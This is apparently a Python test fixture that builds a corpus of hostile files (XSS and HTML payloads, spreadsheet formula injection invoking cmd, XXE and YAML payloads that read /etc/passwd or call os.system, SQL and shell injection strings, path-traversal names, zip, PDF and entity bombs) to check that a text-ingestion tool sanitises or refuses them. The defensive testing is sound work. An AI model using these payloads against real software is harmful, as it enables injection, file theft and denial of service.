"""A corpus of files made to harm whoever reads them: what each is, and what must happen to it."""

import io
import json
import os
import socket
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Literal, NamedTuple

SAID = "The minister said on Monday that the talks had failed, and nobody in the harbour was surprised."
RUN = "window.pwned=1"
"""What every payload that could run would run."""


class Case(NamedTuple):
    """A file: its name, what is in it, and what must happen to it.

    `text`: it is read, and `says` stands in its text or in what is known of it, as text. `refused`: it is named with a
    reason in which `says` stands. `lacks` must not stand in anything of it. `large` ones are read, and left out of the
    report, which would only be long.
    """

    name: str | bytes
    content: bytes | Callable[[Path], object]
    happens: Literal["text", "refused"]
    says: str
    lacks: str = "\x1b"
    large: bool = False


class Reported(NamedTuple):
    """What the command line made of a corpus, what it said, and the folder that it was to leave as it was."""

    around: Path
    corpus: Path
    out: Path
    said: str


def text(name: str | bytes, body: str, says: str | None = None, **more: object) -> Case:
    """Return a case that is read, and shows `body` or `says`."""
    return Case(name, f"{SAID}\n\n{SAID} {body}".encode(), "text", body if says is None else says, **more)  # type: ignore[arg-type]


def html(name: str, markup: str, lacks: str = RUN, says: str = SAID, head: str = "") -> Case:
    """Return a page with markup in it; nothing that runs is left of it."""
    paragraphs = f"<p>{SAID}</p><p>The union said that it would strike until Friday.</p>"
    page = f"<html><head><title>Talks</title>{head}</head><body><article>{paragraphs}{markup}</article></body></html>"
    return Case(name, page.encode(), "text", says, lacks)


def row(name: str, says: str, **cells: str) -> Case:
    """Return a table of one article with hostile cells."""
    return Case(name, json.dumps({"text": SAID, **cells}).encode(), "text", says)


def formula(name: str, sign: str) -> Case:
    """Return a table of one article that a spreadsheet would compute."""
    cells = {
        "text": f"{sign}cmd|' /C calc'!A0, the man said.",
        "title": f"{sign}1+1",
        "outlet": f"{sign}LINK(1)",
    }
    return Case(f"formula-{name}.jsonl", json.dumps(cells).encode(), "text", f"{sign.strip()}cmd")


def front(name: str, head: str, says: str, **more: object) -> Case:
    """Return a text with front matter."""
    return Case(name, f"---\n{head}\n---\n{SAID}\n\n{SAID}".encode(), "text", says, **more)  # type: ignore[arg-type]


# files that no text can stand for ------------------------------------------------------------------------------


def sparse(size: int) -> Callable[[Path], None]:
    """Return what makes a file that says it is so long, and is empty."""

    def make(path: Path) -> None:
        path.touch()
        os.truncate(path, size)

    return make


def link(target: str) -> Callable[[Path], None]:
    return lambda path: path.symlink_to(target)


def unix_socket(path: Path) -> None:
    here = Path.cwd()
    os.chdir(path.parent)  # its address may be 100 bytes long
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(path.name)
    finally:
        os.chdir(here)


def word(paragraph: str, dtd: str = "", padding: int = 0) -> bytes:
    """Return a Word file: with a document type in its text, or with so many bytes more of XML."""
    import docx

    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("PLACE")
    document.save(out)
    packed = io.BytesIO()
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            data = old.read(entry)
            if entry.filename == "word/document.xml":
                data = data.replace(b"?>", f"?>{dtd}".encode(), 1).replace(b"PLACE", paragraph.encode())
                data += b"<!--" + b" " * padding + b"-->" if padding else b""
            new.writestr(entry.filename, data)
    return packed.getvalue()


def pdf(stream: bytes, resources: bytes = b"", more: tuple[bytes, ...] = ()) -> bytes:
    """Return a PDF of one page with this content stream, packed, and further objects from number 5 on."""
    packed = zlib.compress(stream, 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 800] /Contents 4 0 R /Resources << " + resources + b" >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed),
        *more,
    ]
    out, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    n = len(objects) + 1
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (
        n, table, n, len(out),
    )  # fmt: skip


def form(number: int) -> bytes:
    """Return a drawing that shows the next one ten times."""
    shown = b"/X Do " * 10
    inner = b"/Resources << /XObject << /X %d 0 R >> >>" % (number + 1)
    return b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] %s /Length %d >>\nstream\n%s\nendstream" % (
        inner, len(shown), shown,
    )  # fmt: skip


FORMS = (*(form(5 + n) for n in range(12)), b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 0 >>\nstream\n\n"
         b"endstream")  # fmt: skip
"""Drawings in one another, 10 to the 12th in all."""


def wide_parquet(path: Path) -> None:
    """Write a small table whose rows are one text of 100 MB each, held once."""
    import pyarrow as pa
    from pyarrow import parquet

    words = pa.array([SAID * 1_100_000])
    column = pa.DictionaryArray.from_arrays(pa.array([0] * 2_000, pa.int32()), words)
    parquet.write_table(pa.table({"text": column}), path, compression="zstd")


def deep(folder: Path) -> None:
    """Make folders inside one another, with an article in the last."""
    place = folder
    for _ in range(60):
        place /= "d"
    place.mkdir(parents=True)
    (place / "a.txt").write_text(SAID, "utf-8")


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
) + "]>"  # fmt: skip
OUTSIDE = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
MERGES = "a: &a {x: 1}\n" + "\n".join(
    f"{b}: &{b} {{<<: [{', '.join([f'*{a}'] * 9)}]}}" for a, b in zip("abcdefghijk", "bcdefghijkl", strict=True)
)
BIDI, WIDE = "\u202egnp.exe\u202c", "\u0430pple"

# fmt: off
CASES = [
    # script, in text and in titles
    text("script.txt", f"<script>{RUN}</script>"),
    text("script-broken.txt", f"<scr<script>ipt>{RUN}</scr</script>ipt>"),
    text("script-closed.txt", f"</pre></textarea></title></script><script>{RUN}</script>", f"<script>{RUN}</script>"),
    text("event.txt", f"<video src=x onerror={RUN}><details open ontoggle={RUN}>"),
    text("img.txt", f"Look <img src=x onerror={RUN}> here.", "here.", lacks="onerror"),
    text("attribute.txt", f"\" onmouseover=\"{RUN}\" x='"),
    text("attribute-single.txt", f"' autofocus onfocus='{RUN}' '"),
    text("svg.txt", f"<svg onload={RUN}><script>{RUN}</script><use href='data:image/svg+xml,x#x'/></svg>"),
    text("math.txt", f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>"),
    text("css.txt", "<style>@import 'http://evil.example/x.css'; * {background: url(http://evil.example/y)}</style>"),
    text("frame.txt", f"<iframe srcdoc='<script>parent.pwned=1</script>' src=javascript:{RUN}></iframe>"),
    text("form.txt", "<form action=http://evil.example/><input name=q><button autofocus>Go</button></form>"),
    text("base.txt", "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=http://evil.example/'>"),
    text("comment.txt", "<!-- --><!--> <script>window.pwned=1</script> -->", f"<script>{RUN}</script>"),
    text("cdata.txt", f"<![CDATA[ ]]><script>{RUN}</script>", f"<script>{RUN}</script>"),
    text("entity.txt", f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;script&amp;gt;", f"<script>{RUN}</script>"),
    text("null-tag.txt", f"<scr\0ipt>{RUN}</scr\0ipt>", f"<script>{RUN}</script>"),
    text("json-in-script.txt", f"</script><!--<script>{RUN}//\u2028\u2029"[:-2], f"<script>{RUN}//"),
    # markup of other kinds
    text("links.txt", f"[click](javascript:{RUN}) ![x](http://evil.example/x.png) <javascript:{RUN}>"),
    text("links.md", f"[click](javascript:{RUN}) ![x](http://evil.example/x.png)", "click", lacks="evil.example"),
    text("html.md", f"<script>{RUN}</script>\n\n    <script>{RUN}</script>", f"<script>{RUN}</script>"),
    text("markdown.txt", f"[a]: javascript:{RUN}\n\n```{{=html}}\n<script>{RUN}</script>\n```", "{=html}"),
    text("mathjax.txt", r"It cost $\href{javascript:window.pwned=1}{x}$ and $$\require{html}\unicode{x}$$ and \(y\)."),
    text("matplotlib.txt", r"“The price of $\frac{1}{0}$ and $x_{$ is wrong,” Ana $Vell$ said."),
    text("jinja.txt", "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# x #}"),
    text("format.txt", "{0.__class__} %(x)s %s %n ${HOME} $(touch pwned) `touch pwned` {corpus!r}"),
    text("rich.txt", "[bold red]x[/bold red] [link=http://evil.example]y[/link] [/]"),
    text("sql.txt", "'; DROP TABLE articles; COPY articles TO 'pwned.csv'; --"),
    text("latex.txt", r"\input{/etc/passwd} \write18{touch pwned} \immediate"),
    # terminals and the direction of text
    text("ansi.txt", "\x1b[2J\x1b[31mred\x1b[0m and so on", "red"),
    text("terminal-title.txt", "\x1b]0;owned\x07 and \x9b31m and \x1bP+q\x1b\\", "owned"),
    text("bidi.txt", f"See {BIDI} there.", "gnp.exe", lacks="\u202e"),
    text("zero-width.txt", "mini\u200bster \u2060of\ufeff state", "minister of state", lacks="\u200b"),
    text("homoglyph.txt", f"{WIDE} and \u0440\u0430ypal are names.", WIDE),
    text("zalgo.txt", "t" + "\u0301\u0489\u0337" * 300 + "alks"),
    text("emoji.txt", "👩‍👩‍👧‍👦 said “👍🏽” 🏴\U000e0067\U000e0062\U000e007f", "👩‍👩‍👧‍👦"),
    # formulas
    *(formula(name, sign) for name, sign in (("equals", "="), ("plus", "+"), ("minus", "-"), ("at", "@"),
                                             ("tab", "\t="), ("space", " ="), ("return", "\r="), ("wide", "＝"))),
    # what is known about an article
    row("title.jsonl", f"<script>{RUN}</script>", title=f"Talks fail <script>{RUN}</script>"),
    row("title-long.jsonl", "Very long " * 29, title="Very long " * 30),
    row("outlet.jsonl", f"<svg onload={RUN}>", outlet=f"<svg onload={RUN}>"),
    row("author.jsonl", "<style>*{display:none}</style>", author="<style>*{display:none}</style>"),
    row("author-ansi.jsonl", "\ufffd[31mRed", author="\x1b[31mRed\x07"),
    row("outlet-bidi.jsonl", "gnp.exe", outlet=BIDI),
    row("genre.jsonl", "{{ 7*7 }}", genre="{{ 7*7 }}"),
    row("url-script.jsonl", f"javascript:{RUN}", url=f"javascript:{RUN}"),
    row("url-data.jsonl", "data:text/html", url="data:text/html,<script>parent.pwned=1</script>"),
    row("url-file.jsonl", "file:///etc/passwd", url="file:///etc/passwd"),
    row("url-quote.jsonl", "https://a.example", url=f"https://a.example/\" onclick=\"{RUN}"),
    row("date-absurd.jsonl", "99999-99-99", published="99999-99-99"),
    row("date-script.jsonl", "<script>", published=f"<script>{RUN}</script>"),
    row("date-zero.jsonl", "0000-00-00", published="0000-00-00"),
    row("id-up.jsonl", "../../../pwned", article_id="../../../pwned"),
    row("id-absolute.jsonl", "/tmp/pwned", article_id="/tmp/pwned"),
    row("id-windows.jsonl", "C:\\pwned", article_id="C:\\pwned"),
    row("id-device.jsonl", "CON", article_id="CON"),
    row("id-script.jsonl", f"<img src=x onerror={RUN}>", article_id=f"<img src=x onerror={RUN}>"),
    row("id-line.jsonl", "a b", article_id="a\nb"),
    row("surrogate.jsonl", "\ufffd", title="half \ud800 a sign"),
    front("python.md", "title: !!python/object/apply:os.system ['touch pwned']\nauthor: Ann", "Ann"),
    front("merges.md", MERGES, "minister said"),
    front("aliases.md", "a: &a [*a]\nauthor: Ann", "Ann"),
    front("nested.md", "author: " + "[" * 20_000, "minister said"),
    front("front-script.md", f"title: '<script>{RUN}</script>'\nurl: 'javascript:{RUN}'", f"javascript:{RUN}"),
    # names
    text("CON", "", "", large=True)._replace(happens="refused", says="kind"),
    text("CON.txt", "The man said no."),
    text("aux.txt", "The man said yes."),
    text("NUL.md", "The man said maybe."),
    text("trailing.txt.", "", "")._replace(happens="refused", says="kind"),
    text("trailing .txt", "The man said never."),
    text("clash/A.txt", "The man said A."),
    text("clash/a.txt", "The man said a."),
    text("clash/Ａ.txt", "The man said a wide A."),
    text("e\u0301.txt", "The man said so once."),
    text("\u00e9.txt", "The man said so twice."),
    text("🙂👩‍👩‍👧.txt", "The woman said so."),
    text("new\nline.txt", "The woman said no."),
    text("\x1b[31mred.txt", "The woman said never."),
    text("\u202etxt.exe.txt", "The woman said yes."),
    text("<img src=x onerror=window.pwned=1>.txt", "The woman said maybe."),
    text("'; drop table articles; --.txt", "The woman said perhaps."),
    text("=1+1.txt", "The woman said hardly."),
    text("-rf.txt", "The woman said rarely."),
    text("$HOME `id`.txt", "The woman said seldom."),
    text(b"caf\xe9.txt", "The waiter said no."),
    text("n" * 240 + ".txt", "The waiter said yes."),
    # encodings
    Case("empty.txt", b"", "refused", "empty"),
    Case("blank.txt", b" \r\n\t \n" * 50, "refused", "empty"),
    Case("bom.txt", b"\xef\xbb\xbf", "refused", "no words"),
    Case("utf16.txt", SAID.encode("utf-16-le"), "text", "minister said"),
    Case("utf32.txt", SAID.encode("utf-32-le"), "refused", "binary"),
    Case("mixed.txt", (SAID + " “Café” " * 20).encode() + b"\x93caf\xe9\x94", "text", "“café”"),
    Case("overlong.txt", SAID.encode() + b" \xc0\xbcscript\xc0\xbe", "text", "script"),
    Case("nul.txt", SAID.encode() + b"\0 The end.", "text", "The end."),
    Case("no-newline.txt", b"The man said no", "text", "The man said no"),
    Case("utf7.txt", SAID.encode() + b" +ADw-script+AD4-", "text", "+ADw-script"),
    # length and depth
    Case("one-word.txt", b"a" * 1_000_000, "text", "aaaa", large=True),
    Case("paragraphs.txt", b"The man said no.\n" * 10_000, "text", "The man", large=True),
    Case("marks.txt", "“".encode() * 10_000 + SAID.encode(), "text", "“““", large=True),
    Case("quotes.txt", ("“He said ‘she said " * 500 + "’”" * 500).encode(), "text", "She said".lower(), large=True),
    Case("long-line.txt", SAID.encode() * 10_000, "text", SAID, large=True),
    Case("too-long.txt", SAID.encode() * 11_000, "refused", "1,000,000 characters"),
    Case("too-large.txt", sparse(20_000_001), "refused", "20 MB"),
    Case("ten-gigabytes.txt", sparse(10_000_000_000), "refused", "20 MB"),
    Case("ten-gigabytes.csv", sparse(10_000_000_000), "refused", "4 GB"),
    Case("ten-gigabytes.parquet", sparse(10_000_000_000), "refused", "4 GB"),
    Case("one-row.csv", lambda p: p.write_text("text,x\n" + "a," * 11_000_000, "utf-8"), "refused", "20 MB"),
    Case("many-lines.csv", lambda p: p.write_text('text,x\n"' + 'a\n"",' * 5_000_000, "utf-8"), "refused", "20 MB"),
    Case("nested.jsonl", b'{"text": ' + b"[" * 100_000, "refused", "JSON"),
    Case("number.jsonl", b'{"text": "The man said no.", "x": ' + b"1" * 10_000 + b"}", "refused", "JSON"),
    Case("deep", deep, "refused", "40 deep"),
    # no ordinary files
    Case("pipe.txt", os.mkfifo, "refused", "ordinary"),
    Case("socket.txt", unix_socket, "refused", "ordinary"),
    Case("passwords.txt", link("/etc/passwd"), "refused", "leads out"),
    Case("zero.txt", link("/dev/zero"), "refused", "leads out"),
    Case("loop.txt", link("loop.txt"), "refused", "opened"),
    Case("round", link("."), "refused", "link to a folder"),
    # formats that unpack
    Case("packed.txt.gz", zlib.compress(b"0" * 1_000_000), "refused", "kind"),
    Case("packed.txt", b"\x1f\x8b\x08" + b"\0" * 50, "refused", "binary"),
    Case("bomb.docx", lambda p: p.write_bytes(word(SAID, padding=150_000_000)), "refused", "100 MB"),
    Case("laughs.docx", lambda p: p.write_bytes(word(f"{SAID} &j;", LAUGHS)), "refused", "Word"),
    Case("outside.docx", lambda p: p.write_bytes(word(f"{SAID} &x;", OUTSIDE)), "text",
         "minister said", "root:"),
    Case("deep.docx", lambda p: p.write_bytes(word("<w:p>" * 5_000)), "refused", "Word"),
    Case("bomb.pdf", lambda p: p.write_bytes(pdf(b" " * 90_000_000)), "refused", "no text"),
    Case("loop.pdf", pdf(b"/X Do", b"/XObject << /X 5 0 R >>", (form(4),)), "refused", "pictures"),
    Case("forms.pdf", pdf(b"/X Do", b"/XObject << /X 5 0 R >>", FORMS), "refused", "pictures"),
    Case("parts.parquet", wide_parquet, "refused", "memory"),
    # pages
    html("script.html", f"<script>{RUN}</script><p onclick='{RUN}'>The man said no to all of them.</p>"),
    html("svg.html", f"<svg onload='{RUN}'><foreignObject><p>{RUN}</p></foreignObject></svg>", lacks="onload"),
    html("link.html", f"<p>They <a href='javascript:{RUN}'>said</a> that it was so, and that was all.</p>"),
    html("metadata.html", "", head=f"<meta name=author content='<script>{RUN}</script>'>", lacks="\x1b"),
    html("canonical.html", "", head=f"<link rel=canonical href='javascript:{RUN}'>"),
    html("ld.html", "", head=f'<script type="application/ld+json">{{"author":{"[" * 5_000}</script>'),
    html("deep.html", "<div>" * 50_000 + SAID, lacks="<div>"),
    html("attributes.html", "<p " + "a=1 " * 200_000 + f">{SAID}</p>"),
    html("unclosed.html", "<b><i><a>" * 5_000 + SAID),
    html("entities.html", "&" * 2_000 + "&amp;" * 2_000 + SAID, lacks="\x1b"),
    Case("external.xhtml", f'{OUTSIDE}<html><body><article><p>{SAID}'
         f"</p><p>{SAID} &x;</p></article></body></html>".encode(), "refused", "article text"),
]
# fmt: on


def make(folder: Path, cases: list[Case]) -> list[Case]:
    """Write the files into a folder; return those that this system can have."""
    made = []
    folder.mkdir(parents=True, exist_ok=True)
    for case in cases:
        path = Path(os.fsdecode(os.fsencode(folder) + b"/" + os.fsencode(case.name)))
        try:
            path.parent.mkdir(exist_ok=True)
            if path.exists():
                continue  # a system that takes A and a for the same
            if callable(case.content):
                case.content(path)
            else:
                path.write_bytes(case.content)
        except OSError:
            continue
        made.append(case)
    return made
